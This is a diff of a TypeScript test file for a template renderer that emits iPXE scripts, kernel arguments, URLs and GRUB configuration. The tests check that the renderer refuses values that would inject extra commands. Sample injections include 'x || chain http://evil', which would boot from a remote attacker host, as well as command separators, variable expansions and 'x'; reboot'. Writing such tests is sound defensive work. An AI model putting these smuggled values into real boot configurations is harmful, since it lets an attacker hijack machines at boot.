@@ -148,7 +148,16 @@ test("templates: what would break the text that a value goes into is an error wi
   refused(script, "two words", "iPXE script", /^f:4:8: .* a space/);
   assert.match(render(script.replace("kernel", "echo"), "two words", "iPXE script"), /echo two words/);
   refused("echo {{ machine.vars.disk }}", "x || chain http://evil", "iPXE script", /another command/);
+  for (const word of ["||", "&&", ";"])
+    for (const [text, into] of [
+      [cmdline, "kernel arguments"],
+      [script, "iPXE script"],
+      ["echo {{ machine.vars.disk }}", "iPXE script"],
+    ] as const)
+      refused(text, word, into, /another command/);
+  refused("set x {{ machine.vars.disk }}\nboot", "RACK\\", "iPXE script", /would go on in the next/);
   refused("set x {{ machine.vars.disk }}", "${y}", "iPXE script", /iPXE would put/);
+  refused("http://a/{{ machine.vars.disk }}/linux", "${net0/mac}", "URL", /iPXE would put/);
   // biome-ignore-end lint/suspicious/noTemplateCurlyInString: iPXE's variable
   refused("  linux /k {{ machine.vars.disk }}", "a b", "GRUB configuration", /a space/);
   refused("echo '{{ machine.vars.disk }}'", "x'; reboot", "GRUB configuration", /takes for its own/);
